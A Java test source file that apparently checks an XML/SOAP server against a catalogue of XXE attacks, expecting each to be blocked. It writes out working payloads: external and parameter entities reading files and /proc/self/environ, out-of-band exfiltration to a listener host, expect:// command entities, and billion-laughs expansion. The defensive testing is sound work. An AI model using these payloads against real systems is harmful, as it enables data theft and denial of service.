package io.github.srvasmx.it;

import static io.github.srvasmx.it.XmlAttack.Outcome.NOT_READ;
import static io.github.srvasmx.it.XmlAttack.Outcome.NO_CALL;
import static io.github.srvasmx.it.XmlAttack.Outcome.NO_GUID;
import static io.github.srvasmx.it.XmlAttack.Outcome.WITHOUT_EFFECT;
import static io.github.srvasmx.it.XmlAttack.attack;

import java.util.function.Function;
import java.util.stream.Stream;

/** The XXE attacks of PayloadsAllTheThings: entities, document types and other external resources. */
final class EntityAttacks {

    private static final String XINCLUDE = "xmlns:xi='http://www.w3.org/2001/XInclude'";

    private EntityAttacks() {}

    static Stream<XmlAttack> rows() {
        return Stream.of(external(), parameters(), expanding(), otherDocumentTypes(), withoutDocumentType())
                .flatMap(rows -> rows);
    }

    private static Stream<XmlAttack> external() {
        Stream<XmlAttack> bySystem = Stream.of(
                        "file: CANARY",
                        "relative: canary.txt",
                        "netdoc: netdoc:CANARY",
                        "http: http://LISTENER/x",
                        "https: https://LISTENER/x",
                        "ftp: ftp://LISTENER/x",
                        "ftp with a user: ftp://user:password@LISTENER/x",
                        "jar: jar:http://LISTENER/x.jar!/x",
                        "mailto: mailto:x@LISTENER",
                        "gopher: gopher://LISTENER/x",
                        "php: php://filter/convert.base64-encode/resource=CANARY",
                        "expect: expect://id",
                        "data: data:text/plain;base64,eA==",
                        "UNC: \\\\LISTENER\\share\\x",
                        "device: file:///dev/zero",
                        "process: file:///proc/self/environ")
                .map(row -> attack(
                        "external entity by " + row.substring(0, row.indexOf(':')),
                        NOT_READ,
                        entity("<!ENTITY e SYSTEM \"" + row.substring(row.indexOf(' ') + 1) + "\">")));
        return Stream.concat(
                bySystem,
                Stream.of(
                        attack(
                                "external entity by public id",
                                NOT_READ,
                                entity("<!ENTITY e PUBLIC 'x' 'http://LISTENER/'>")),
                        attack(
                                "unparsed entity",
                                NOT_READ,
                                entity("<!NOTATION n SYSTEM 'x'><!ENTITY e SYSTEM 'http://LISTENER/' NDATA n>")),
                        attack(
                                "entity in an attribute",
                                NOT_READ,
                                document("<!ENTITY e SYSTEM 'CANARY'>", "<x a='&e;'/>"))));
    }

    private static Stream<XmlAttack> parameters() {
        String evaluated = "<!ENTITY % file SYSTEM 'CANARY'><!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM '";
        return Stream.of(
                attack(
                        "parameter entity by http",
                        NOT_READ,
                        document("<!ENTITY % p SYSTEM 'http://LISTENER/'> %p;", "")),
                attack("parameter entity by file", NOT_READ, document("<!ENTITY % p SYSTEM 'CANARY'> %p;", "")),
                attack(
                        "out of band",
                        NOT_READ,
                        document(
                                "<!ENTITY % file SYSTEM 'CANARY'><!ENTITY % d SYSTEM 'http://LISTENER/d.dtd'> %d; %send;",
                                "&leak;")),
                attack(
                        "out of band by ftp",
                        NOT_READ,
                        document(evaluated + "ftp://LISTENER/%file;'>\"> %eval; %leak;", "")),
                attack("by an error", NOT_READ, document(evaluated + "file:///none/%file;'>\"> %eval; %leak;", "")),
                attack(
                        "re-use of a document type on this machine",
                        NOT_READ,
                        document(
                                "<!ENTITY % local SYSTEM 'file:///usr/share/xml/fontconfig/fonts.dtd'>"
                                        + "<!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM \"CANARY\">&#x25;f;<!ELEMENT b (c'>"
                                        + " %local;",
                                "")),
                attack(
                        "re-use of a document type in a jar",
                        NOT_READ,
                        document("<!ENTITY % local SYSTEM 'jar:file:///opt/srv-asmx.jar!/x.dtd'> %local;", "")));
    }

    private static Stream<XmlAttack> expanding() {
        return Stream.of(
                attack("billion laughs", NOT_READ, entity(laughs("<!ENTITY ", "&", 10) + "<!ENTITY e '&l9;'>")),
                attack(
                        "billion laughs of parameters",
                        NOT_READ,
                        document(laughs("<!ENTITY % ", "&#x25;", 10) + " %l9;", "")),
                attack(
                        "billion laughs in an attribute",
                        NOT_READ,
                        document(laughs("<!ENTITY ", "&", 10), "<x a='&l9;'/>")),
                attack(
                        "quadratic expansion",
                        NOT_READ,
                        document("<!ENTITY e '" + "x".repeat(100_000) + "'>", "&e;".repeat(100_000))),
                attack("an entity that holds itself", NOT_READ, entity("<!ENTITY e '&e;'>")),
                attack("entities that hold each other", NOT_READ, entity("<!ENTITY e '&f;'><!ENTITY f '&e;'>")),
                attack("an entity that nobody declares", NOT_READ, target -> target.logOut("&e;")),
                attack("a document type of a megabyte", NOT_READ, document("<!ENTITY e 'x'>".repeat(60_000), "")),
                attack(
                        "a document type without an end",
                        NOT_READ,
                        target -> "<!DOCTYPE x [" + "<!ENTITY e '".repeat(50_000)));
    }

    private static Stream<XmlAttack> otherDocumentTypes() {
        return Stream.of(
                attack(
                        "document type by http",
                        NOT_READ,
                        target -> "<!DOCTYPE x SYSTEM 'http://" + target.listener() + "/x.dtd'>" + target.logOut("")),
                attack(
                        "document type by public id",
                        NOT_READ,
                        target -> "<!DOCTYPE x PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'http://" + target.listener()
                                + "/x.dtd'>" + target.logOut("")),
                attack("document type of a single name", NOT_READ, target -> "<!DOCTYPE x>" + target.logOut("")),
                attack(
                        "document type that stands alone",
                        NOT_READ,
                        target -> "<?xml version='1.0' standalone='yes'?><!DOCTYPE x>" + target.logOut("")),
                attack("document type of small letters", NOT_READ, target -> "<!doctype x>" + target.logOut("")),
                attack(
                        "document type behind a comment",
                        NOT_READ,
                        target -> "<!-- --><!DOCTYPE x>" + target.logOut("")),
                attack("document type within the envelope", NOT_READ, target -> target.logOut("<!DOCTYPE x>")),
                attack("document type behind the envelope", NOT_READ, target -> target.logOut("") + "<!DOCTYPE x>"),
                attack(
                        "attributes by default",
                        NOT_READ,
                        document("<!ATTLIST soap:Envelope xmlns:a CDATA 'http://LISTENER/'>", "")),
                attack(
                        "XML 1.1",
                        NOT_READ,
                        target -> "<?xml version='1.1'?><!DOCTYPE x [<!ENTITY e 'x'>]>" + target.logOut("&e;")));
    }

    /** A message without a document type is read, but no resource that it refers to. */
    private static Stream<XmlAttack> withoutDocumentType() {
        return Stream.of(
                attack(
                        "XInclude of text",
                        NO_GUID,
                        target -> target.deleteOf(
                                "<xi:include " + XINCLUDE + " parse='text' href='" + target.canary() + "'/>")),
                attack(
                        "XInclude of XML by http",
                        NO_GUID,
                        target -> target.deleteOf(
                                "<xi:include " + XINCLUDE + " href='http://" + target.listener() + "/'/>")),
                attack(
                        "XInclude with a fallback",
                        NO_GUID,
                        target -> target.deleteOf("<xi:include " + XINCLUDE + " href='http://" + target.listener()
                                + "/'><xi:fallback>x</xi:fallback></xi:include>")),
                attack(
                        "XOP include",
                        NO_GUID,
                        target -> target.deleteOf(
                                "<xop:Include xmlns:xop='http://www.w3.org/2004/08/xop/include' href='http://"
                                        + target.listener() + "/'/>")),
                attack(
                        "schema location",
                        WITHOUT_EFFECT,
                        target -> target.delete(
                                "",
                                "<x xmlns:i="
                                        + "'http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='urn:x http://"
                                        + target.listener() + "/x.xsd' i:noNamespaceSchemaLocation='" + target.canary()
                                        + "'/>")),
                attack(
                        "xml:base",
                        WITHOUT_EFFECT,
                        target -> target.delete("", "<x xml:base='http://" + target.listener() + "/'/>")),
                attack(
                        "stylesheet instruction",
                        WITHOUT_EFFECT,
                        target -> "<?xml-stylesheet type='text/xsl' href='http://" + target.listener() + "/x.xsl'?>"
                                + target.delete("", "")),
                attack(
                        "SVG with a picture elsewhere",
                        NO_CALL,
                        target -> "<svg xmlns='http://www.w3.org/2000/svg'><image"
                                + " xmlns:l='http://www.w3.org/1999/xlink' l:href='http://" + target.listener()
                                + "/'/></svg>"),
                attack(
                        "stylesheet that reads a document",
                        NO_CALL,
                        target -> "<xsl:stylesheet version='1.0'"
                                + " xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
                                + "<xsl:copy-of select=\"document('" + target.canary()
                                + "')\"/></xsl:template></xsl:stylesheet>"));
    }

    /** Each entity contains the previous one ten times. */
    private static String laughs(String declaration, String reference, int levels) {
        StringBuilder text = new StringBuilder(declaration + "l0 'ha'>");
        for (int level = 1; level < levels; level++) {
            text.append(declaration).append('l').append(level).append(" '");
            text.append((reference + "l" + (level - 1) + ";").repeat(10)).append("'>");
        }
        return text.toString();
    }

    private static Function<XmlTarget, String> entity(String declarations) {
        return document(declarations, "&e;");
    }

    private static Function<XmlTarget, String> document(String declarations, String content) {
        return target -> ("<!DOCTYPE x [" + declarations + "]>" + target.logOut(content))
                .replace("LISTENER", target.listener())
                .replace("CANARY", target.canary());
    }
}
